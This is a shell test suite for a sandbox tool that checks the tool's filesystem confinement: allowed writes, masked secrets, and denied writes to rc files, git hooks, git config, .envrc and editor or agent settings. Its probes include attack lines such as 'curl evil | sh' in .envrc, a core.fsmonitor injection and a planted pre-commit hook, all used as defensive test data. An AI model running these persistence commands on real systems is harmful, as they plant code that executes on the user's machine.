#!/usr/bin/env bats
# e2e_fs.bats — the filesystem layers of `cordon run`, end to end through the real binary: writes
# only under cwd, masked reads, mandatory write-denies (existing or not), no trace left on the host.

load helpers

e2e_hooks

setup() {
	e2e_setup
	NAME=cordon-e2e-$$-$RANDOM
	TAG=$((3000 + RANDOM % 1000)).$$$RANDOM
}

teardown() {
	pkill -KILL -f "sleep $TAG" 2>/dev/null || true
	# only if the sandbox failed: what a broken run may have left outside
	if [ -n "${NAME:-}" ]; then
		rm -rf "/var/tmp/$NAME" 2>/dev/null || true
		if [ "$AS" = root ]; then rm -rf "/etc/$NAME" "/usr/$NAME" "/usr/local/$NAME"; fi
	fi
	e2e_teardown
}

# --- writable trees ----------------------------------------------------------------------------

@test "a write in cwd works and lands on the host, owned by the user" {
	run crun -- /bin/sh -c 'echo hello >f && mkdir -p d/e && echo deep >d/e/g && cat f d/e/g'
	assert_status 0
	assert_output_has hello deep
	[ "$(cat "$W/f")" = hello ] || fail "f not on the host"
	[ "$(cat "$W/d/e/g")" = deep ] || fail "d/e/g not on the host"
	[ "$(stat -c %u "$W/f")" = "$(id -u)" ] || fail "f owned by $(stat -c %u "$W/f")"
}

@test "writes to /etc, \$HOME and /usr fail and leave no file on the host" {
	# control: the probe writes where the policy allows, and unconfined where the mode allows
	run crun -- /bin/sh -c "echo x >'$W/$NAME' && echo wrote"
	assert_status 0
	assert_output_has wrote
	run host_sh "echo x >'$TEST_HOME/$NAME' && rm '$TEST_HOME/$NAME' && echo wrote"
	assert_output_has wrote
	if [ "$AS" = root ]; then
		run host_sh "echo x >'/etc/$NAME' && rm '/etc/$NAME' && echo wrote"
		assert_output_has wrote
	fi
	for dir in /etc "$TEST_HOME" /usr /usr/local /var/tmp; do
		run crun -- /bin/sh -c "echo x >'$dir/$NAME' && echo wrote"
		[ "$status" -ne 0 ] || fail "write to $dir succeeded: $output"
		assert_output_lacks wrote
		[ ! -e "$dir/$NAME" ] || fail "$dir/$NAME appeared on the host"
		run crun -- /bin/mkdir "$dir/$NAME"
		[ "$status" -ne 0 ] || fail "mkdir in $dir succeeded"
		[ ! -e "$dir/$NAME" ] || fail "$dir/$NAME appeared on the host"
	done
}

@test "a directory writable by its mode but outside the policy refuses writes unless --allow-write names it" {
	run host_sh "echo x >'$OUT/probe' && rm '$OUT/probe' && echo wrote"
	assert_output_has wrote
	run crun -- /bin/sh -c "echo x >'$OUT/f' && echo wrote"
	[ "$status" -ne 0 ] || fail "write outside the policy succeeded"
	[ ! -e "$OUT/f" ] || fail "$OUT/f appeared on the host"
	run crun --allow-write "$OUT" -- /bin/sh -c "echo x >'$OUT/f' && echo wrote"
	assert_status 0
	[ -f "$OUT/f" ] || fail "--allow-write did not admit $OUT"
}

@test "/tmp inside is private: writable, and nothing written there reaches the host /tmp" {
	run crun -- /bin/sh -c "echo x >/tmp/$NAME && cat /tmp/$NAME"
	assert_status 0
	assert_output_has x
	[ ! -e "/tmp/$NAME" ] || fail "/tmp/$NAME appeared on the host"
}

@test "a project directory under /tmp stays visible and writable despite the private /tmp" {
	d=$(test_tmpdir --tmp e2e-cwd)
	echo from-host >"$d/in.txt"
	cd "$d"
	run crun -- /bin/sh -c 'cat in.txt && echo from-inside >out.txt && echo wrote'
	cd "$W"
	out=$(cat "$d/out.txt" 2>/dev/null || true)
	rm_tmpdir "$d"
	assert_status 0
	assert_output_has from-host wrote
	[ "$out" = from-inside ] || fail "out.txt did not reach the host"
}

# --- reads -------------------------------------------------------------------------------------

@test "denyRead: a directory shows empty and a file reads empty while a sibling reads fine" {
	mkdir -p "$T/secretdir" "$T/data"
	echo dir-secret >"$T/secretdir/a.txt"
	echo file-secret >"$T/data/secret.txt"
	echo public-data >"$T/data/public.txt"
	cat >"$T/cfg.json" <<-EOF
		{"filesystem": {"denyRead": ["$T/secretdir", "$T/data/secret.txt"]}}
	EOF
	probe="ls -A '$T/secretdir'; cat '$T/data/secret.txt'; echo rc=\$?; cat '$T/data/public.txt'"
	# control: without the config every file is visible
	run crun -- /bin/sh -c "$probe"
	assert_status 0
	assert_output_has a.txt file-secret public-data
	run crun --config "$T/cfg.json" -- /bin/sh -c "$probe"
	assert_status 0
	assert_output_lacks a.txt
	assert_output_lacks dir-secret
	assert_output_lacks file-secret
	assert_output_has rc=0 public-data
	[ "$(cat "$T/data/secret.txt")" = file-secret ] || fail "the host file changed"
}

@test "allowRead carves a readable path out of a denyRead directory" {
	mkdir -p "$T/secretdir/open"
	echo hidden-data >"$T/secretdir/hidden.txt"
	echo open-data >"$T/secretdir/open/ok.txt"
	cat >"$T/cfg.json" <<-EOF
		{"filesystem": {"denyRead": ["$T/secretdir"], "allowRead": ["$T/secretdir/open"]}}
	EOF
	run crun --config "$T/cfg.json" -- /bin/sh -c \
		"cat '$T/secretdir/open/ok.txt'; cat '$T/secretdir/hidden.txt'"
	assert_output_has open-data
	assert_output_lacks hidden-data
	# the masked directory lists only the carved-out entry
	run crun --config "$T/cfg.json" -- /bin/ls -A "$T/secretdir"
	[ "$output" = open ] || fail "listing of the masked directory: $output"
	# control: the same config without allowRead hides open/ too
	cat >"$T/cfg2.json" <<-EOF
		{"filesystem": {"denyRead": ["$T/secretdir"]}}
	EOF
	run crun --config "$T/cfg2.json" -- /bin/sh -c "cat '$T/secretdir/open/ok.txt'"
	assert_output_lacks open-data
}

@test "secrets in \$HOME (~/.ssh) are masked by default while the rest of \$HOME reads fine" {
	mkdir -p "$TEST_HOME/.ssh"
	echo PRIVATE-KEY >"$TEST_HOME/.ssh/id_ed25519"
	echo home-note >"$TEST_HOME/note.txt"
	run crun -- /bin/sh -c 'cat "$HOME/.ssh/id_ed25519"; cat "$HOME/note.txt"'
	assert_output_lacks PRIVATE-KEY
	assert_output_has home-note
	# the masked directory shows empty
	run crun -- /bin/sh -c 'ls -A "$HOME/.ssh"; echo "rc=$?"'
	[ "$output" = "rc=0" ] || fail "~/.ssh is not shown empty: $output"
}

# --- mandatory write-denies ---------------------------------------------------------------------

# deny_case WRITE: in a git repository at $W, run WRITE confined, then commit a file in the same
# run. WRITE must fail ("WROTE" never printed) while the commit succeeds; the host listing of the
# repository's files is unchanged apart from the committed file (no placeholders).
deny_case() {
	[ -d "$W/.git" ] || git_repo "$W"
	listing "$W" '^\./\.git/|^\./notes\.txt$' >"$T/before"
	run crun -- /bin/sh -c "
		if ( $1 ) 2>/dev/null; then echo WROTE; else echo refused; fi
		cat /proc/sys/kernel/random/uuid >notes.txt && git add notes.txt && git commit -qm note && echo COMMITTED"
	assert_output_has refused COMMITTED
	assert_output_lacks WROTE
	[ "$(git -C "$W" log -1 --format=%s)" = note ] || fail "the commit is not on the host"
	listing "$W" '^\./\.git/|^\./notes\.txt$' >"$T/after"
	diff "$T/before" "$T/after" || fail "the repository listing changed (see diff)"
}

@test "mandatory deny: shell rc files in cwd cannot be created, git commit still works" {
	deny_case 'echo evil >>.bashrc'
	for rc in .bash_profile .profile .zshrc .zshenv .bash_logout .inputrc; do
		run crun -- /bin/sh -c "echo evil >>$rc && echo WROTE"
		assert_output_lacks WROTE
		[ ! -e "$W/$rc" ] || fail "$rc appeared on the host"
	done
}

@test "mandatory deny: an existing .bashrc in cwd cannot be changed" {
	echo safe >"$W/.bashrc"
	deny_case 'echo evil >>.bashrc'
	[ "$(cat "$W/.bashrc")" = safe ] || fail ".bashrc changed: $(cat "$W/.bashrc")"
	run crun -- /bin/sh -c 'rm -f .bashrc; mv .bashrc x; echo evil >.bashrc.new && mv .bashrc.new .bashrc'
	[ "$(cat "$W/.bashrc")" = safe ] || fail ".bashrc replaced"
}

@test "mandatory deny: .git/hooks/x cannot be created, git commit still works" {
	deny_case 'printf "#!/bin/sh\necho HOOK-RAN\n" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
	[ ! -e "$W/.git/hooks/pre-commit" ] || fail "pre-commit hook appeared on the host"
	run crun -- /bin/sh -c 'mkdir .git/hooks/sub && echo WROTE'
	assert_output_lacks WROTE
	run git -C "$W" commit -q --allow-empty -m after
	assert_output_lacks HOOK-RAN
}

@test "mandatory deny: .git/config cannot be changed, git commit still works" {
	git_repo "$W"
	cp "$W/.git/config" "$T/config.orig"
	deny_case 'git config core.fsmonitor "echo evil" && echo x >>.git/config'
	cmp "$W/.git/config" "$T/config.orig" || fail ".git/config changed"
}

@test "mandatory deny: .vscode/settings.json cannot be created (directory present or not)" {
	deny_case 'mkdir -p .vscode && echo "{}" >.vscode/settings.json'
	[ ! -e "$W/.vscode/settings.json" ] || fail ".vscode/settings.json appeared on the host"
	mkdir -p "$W/.vscode"
	run crun -- /bin/sh -c 'echo "{}" >.vscode/settings.json && echo WROTE'
	assert_output_lacks WROTE
	run crun -- /bin/sh -c 'echo "{}" >.vscode/tasks.json && echo WROTE'
	assert_output_lacks WROTE
	[ -z "$(ls -A "$W/.vscode")" ] || fail ".vscode on the host is not empty: $(ls -A "$W/.vscode")"
}

@test "mandatory deny: .mcp.json that does not exist yet cannot be created" {
	deny_case 'echo "{}" >.mcp.json'
	[ ! -e "$W/.mcp.json" ] || fail ".mcp.json appeared on the host"
}

@test "mandatory deny: .envrc cannot be created" {
	deny_case 'echo "curl evil | sh" >.envrc'
	[ ! -e "$W/.envrc" ] || fail ".envrc appeared on the host"
}

@test "mandatory deny: the repository's .cordon.json, which shapes the next session, cannot be created" {
	deny_case 'echo "{}" >.cordon.json'
	[ ! -e "$W/.cordon.json" ] || fail ".cordon.json appeared on the host"
}

@test "mandatory deny: .gitmodules and .claude/settings.json cannot be created" {
	deny_case 'echo "[submodule]" >.gitmodules'
	deny_case 'mkdir -p .claude && echo "{}" >.claude/settings.json'
	[ ! -e "$W/.gitmodules" ] || fail ".gitmodules appeared on the host"
	[ ! -e "$W/.claude/settings.json" ] || fail ".claude/settings.json appeared on the host"
}

@test "a denyWrite path that does not exist at start is still denied when created later" {
	cat >"$T/cfg.json" <<-EOF
		{"filesystem": {"denyWrite": ["$W/late.txt", "$W/latedir"]}}
	EOF
	run crun --config "$T/cfg.json" -- /bin/sh -c '
		echo ok >other.txt && echo OTHER
		echo x >late.txt && echo WROTE-FILE
		mkdir -p latedir && echo x >latedir/f && echo WROTE-DIR'
	assert_output_has OTHER
	assert_output_lacks WROTE-FILE
	assert_output_lacks WROTE-DIR
	[ ! -e "$W/late.txt" ] || fail "late.txt appeared on the host"
	[ ! -e "$W/latedir/f" ] || fail "latedir/f appeared on the host"
}

@test "a dangerous directory created on the host after start is still denied inside" {
	git_repo "$W"
	rm -rf "$W/.git/hooks"
	env HOME="$TEST_HOME" timeout -k 5 "$RUN_TIMEOUT" "$CORDON" run -- /bin/sh -c '
		touch ready
		i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i + 1)); done
		echo "{}" >.vscode/settings.json && echo WROTE-VSCODE
		echo x >.git/hooks/pre-commit && echo WROTE-HOOK
		mkdir -p .claude/commands && echo x >.claude/commands/evil.md && echo WROTE-CLAUDE
		echo ok >after.txt && echo AFTER' </dev/null >"$T/out" 2>&1 3>&- &
	pid=$!
	track "$pid"
	wait_for "$W/ready" 20 || fail "the confined command did not start: $(cat "$T/out")"
	mkdir -p "$W/.vscode" "$W/.git/hooks" "$W/.claude"
	touch "$W/go"
	wait "$pid" || true
	output=$(cat "$T/out")
	assert_output_has AFTER
	assert_output_lacks WROTE
	for d in "$W/.vscode" "$W/.git/hooks"; do
		[ -z "$(ls -A "$d")" ] || fail "files appeared in $d: $(ls -A "$d")"
	done
	[ ! -e "$W/.claude/commands/evil.md" ] || fail ".claude/commands/evil.md appeared"
}

@test "mv .git .gitx fails (ancestors of denied paths are pinned) while other renames work" {
	git_repo "$W"
	mkdir "$W/sub"
	run crun -- /bin/sh -c 'mv sub sub2 && echo RENAMED; mv .git .gitx && echo MOVED-GIT;
		mkdir -p .git/hooks && echo x >.git/hooks/pre-commit'
	assert_output_has RENAMED
	assert_output_lacks MOVED-GIT
	[ -d "$W/.git" ] && [ ! -e "$W/.gitx" ] || fail ".git was moved on the host"
	[ ! -e "$W/.git/hooks/pre-commit" ] || fail "a hook appeared"
	run crun -- /bin/sh -c 'mv .git/hooks .git/hooks2 && echo MOVED-HOOKS'
	assert_output_lacks MOVED-HOOKS
	[ -d "$W/.git/hooks" ] || fail ".git/hooks was moved on the host"
}

# --- links ----------------------------------------------------------------------------------------

@test "a symlink in cwd pointing outside cannot be written through" {
	echo original >"$OUT/target.txt"
	echo control >"$OUT/control.txt"
	ln -s "$OUT/target.txt" "$W/link"
	ln -s "$OUT/control.txt" "$W/ctl"
	echo inside >"$W/in.txt"
	ln -s in.txt "$W/inlink"
	# control: unconfined the link writes through; confined, a link inside cwd writes fine
	run host_sh 'echo changed >ctl'
	[ "$(cat "$OUT/control.txt")" = changed ] || fail "control write through the link failed"
	run crun -- /bin/sh -c 'echo changed >inlink && echo INSIDE-OK'
	assert_output_has INSIDE-OK
	run crun -- /bin/sh -c "echo evil >link && echo WROTE; echo evil >>link && echo APPENDED;
		ln -s '$OUT/target.txt' link2 && echo evil >link2 && echo WROTE2; : >link && echo TRUNC"
	assert_output_lacks WROTE
	assert_output_lacks APPENDED
	assert_output_lacks TRUNC
	[ "$(cat "$OUT/target.txt")" = original ] || fail "target changed: $(cat "$OUT/target.txt")"
}

@test "a hardlink to an outside file cannot be made from cwd, so it cannot be written through" {
	echo original >"$OUT/target.txt"
	echo control >"$OUT/control.txt"
	# control: the same link can be made unconfined (same filesystem, owner may link)
	run host_sh "ln '$OUT/control.txt' hlctl && echo LINKED"
	assert_output_has LINKED
	rm -f "$W/hlctl"
	# control: inside, a hardlink within cwd can be made and written through
	echo inside >"$W/in.txt"
	run crun -- /bin/sh -c 'ln in.txt in-hl && echo more >>in-hl && echo INSIDE-OK'
	assert_output_has INSIDE-OK
	[ "$(stat -c %h "$W/in.txt")" = 2 ] || fail "control: the inside hardlink is not on the host"
	run crun -- /bin/sh -c "ln '$OUT/target.txt' hl && echo LINKED && echo evil >>hl && echo WROTE"
	assert_output_lacks LINKED
	assert_output_lacks "WROTE"
	[ "$(cat "$OUT/target.txt")" = original ] || fail "target changed"
	[ "$(stat -c %h "$OUT/target.txt")" = 1 ] || fail "a hardlink to target was made"
}

# --- no trace on the host -------------------------------------------------------------------------

@test "no placeholder files for dangerous names, during the run, after it, and after SIGKILL of cordon" {
	git_repo "$W"
	listing "$W" >"$T/before"
	# $HOME: the project, and the sessions' violation logs (the refused writes below are logged
	# there, vlog.h), are expected to change; nothing else may
	home_skip='^[.]/proj|^[.]/[.]local(/state(/cordon(/sessions(/[0-9a-f]+[.]log)?)?)?)?$'
	listing "$TEST_HOME" "$home_skip" >"$T/home-before"
	# a normal run that tries every dangerous name
	run crun -- /bin/sh -c 'for f in .bashrc .profile .zshrc .mcp.json .envrc .gitmodules; do
		echo x >"$f"; done 2>/dev/null; echo done'
	assert_output_has done
	listing "$W" >"$T/after"
	diff "$T/before" "$T/after" || fail "the run left files behind"
	# a run killed with SIGKILL while it is inside
	env HOME="$TEST_HOME" timeout -k 5 "$RUN_TIMEOUT" "$CORDON" run -- /bin/sh -c "
		for f in .bashrc .mcp.json .envrc; do echo x >\"\$f\"; done 2>/dev/null
		touch ready; exec sleep $TAG" </dev/null >"$T/out" 2>&1 3>&- &
	pid=$!
	track "$pid"
	wait_for "$W/ready" 20 || fail "the confined command did not start: $(cat "$T/out")"
	listing "$W" '^\./ready$' >"$T/during"
	diff "$T/before" "$T/during" || fail "placeholder files visible on the host during the run"
	cordon_pid=$(pgrep -P "$pid" -x cordon || echo "$pid")
	kill -9 "$cordon_pid"
	wait "$pid" 2>/dev/null || true
	for _ in $(seq 100); do pgrep -f "sleep $TAG" >/dev/null || break; sleep 0.05; done
	! pgrep -f "sleep $TAG" >/dev/null || fail "the confined command outlived SIGKILL of cordon"
	listing "$W" '^\./ready$' >"$T/killed"
	diff "$T/before" "$T/killed" || fail "files left behind after SIGKILL"
	listing "$TEST_HOME" "$home_skip" >"$T/home-after"
	diff "$T/home-before" "$T/home-after" || fail "\$HOME changed"
}
